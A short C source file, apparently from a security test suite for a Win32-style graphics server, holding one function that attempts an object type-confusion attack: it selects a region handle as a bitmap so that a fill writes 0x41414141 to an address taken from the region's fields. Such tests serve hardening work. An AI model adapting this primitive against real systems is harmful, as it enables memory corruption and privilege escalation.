/* SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception */
/* A region is selected as a bitmap, then drawn on: its left and top are the size, its counts are the address of the
 * pixels. */
#include "attacks/attacks.h"

enum w32_status w32_attack_object_type_confusion(const struct w32_client *client)
{
    w32_handle region;
    enum w32_status status = w32_client_region_rect(client, (struct w32_rect){100, 100, 200, 200}, &region);

    if (status != W32_OK)
        return status;
    status = w32_client_select(client, W32_TYPE_BITMAP, region);
    if (status == W32_OK)
        (void)w32_client_fill_rect(client, (struct w32_rect){0, 0, 10, 10}, 0x41414141);
    (void)w32_client_object_delete(client, region);
    return status;
}
